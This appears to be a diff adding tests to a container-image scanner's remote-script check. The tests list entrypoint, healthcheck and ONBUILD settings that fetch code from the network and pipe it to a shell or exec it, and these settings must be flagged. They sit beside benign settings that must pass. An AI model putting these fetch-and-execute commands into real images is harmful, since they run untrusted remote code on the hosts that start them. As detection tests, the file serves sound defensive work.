@@ -1,9 +1,12 @@
 from __future__ import annotations
 
+from typing import Any
+
 import pytest
 
 from scanner.checks.image.remote_script import RemoteScript
 from scanner.model.finding import Failed, Incomplete, Outcome, Passed
+from scanner.model.image import Healthcheck
 from tests.scanner.checks.factory import built_by, without_history
 
 
@@ -598,3 +601,39 @@ def test_more_ways_of_code_from_the_network(script: str) -> None:
 )
 def test_more_that_ordinary_builds_do(script: str) -> None:
     assert isinstance(examine(script), Passed)
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"entrypoint": ("/bin/sh", "-c", f"{FETCH} | sh")},
+        {"entrypoint": ("/bin/sh", "-c"), "cmd": (f"{FETCH} -o /tmp/i.sh && sh /tmp/i.sh",)},
+        {"entrypoint": ("tini", "--", "bash", "-c", f"bash <({FETCH})")},
+        {"healthcheck": Healthcheck(("CMD-SHELL", f"{FETCH} | sh || exit 1"))},
+        {
+            "healthcheck": Healthcheck(
+                ("CMD", "python3", "-c", "exec(__import__('requests').get('https://a.b/c').text)")
+            )
+        },
+        {"onbuild": (f"RUN {FETCH} | sh",)},
+        {"onbuild": (f'RUN ["sh", "-c", "{FETCH} | sh"]',)},
+    ],
+)
+def test_code_that_a_container_loads_when_it_starts(config: dict[str, Any]) -> None:
+    outcome = RemoteScript().examine(built_by("COPY a /a # buildkit", **config))
+    assert isinstance(outcome, Failed)
+    assert outcome.evidence[0].message.startswith(("ENTRYPOINT: ", "HEALTHCHECK: ", "ONBUILD: "))
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"entrypoint": ("/docker-entrypoint.sh",), "cmd": ("nginx", "-g", "daemon off;")},
+        {"entrypoint": ("/bin/sh", "-c", 'eval "$START"')},
+        {"healthcheck": Healthcheck(("CMD-SHELL", "curl -f http://localhost/ || exit 1"))},
+        {"healthcheck": Healthcheck(("NONE",))},
+        {"onbuild": ("COPY . /app", "RUN npm ci")},
+    ],
+)
+def test_commands_that_containers_start_with(config: dict[str, Any]) -> None:
+    assert isinstance(RemoteScript().examine(built_by("COPY a /a # buildkit", **config)), Passed)
